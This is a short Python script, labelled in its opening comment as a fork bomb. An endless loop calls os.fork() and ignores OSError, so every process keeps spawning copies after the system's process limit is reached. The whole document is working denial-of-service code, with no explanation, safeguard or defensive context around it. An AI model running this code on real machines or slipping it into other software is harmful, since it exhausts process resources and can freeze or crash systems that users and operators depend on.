# A fork bomb: every process forks forever and ignores the errors once the process limit is reached.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
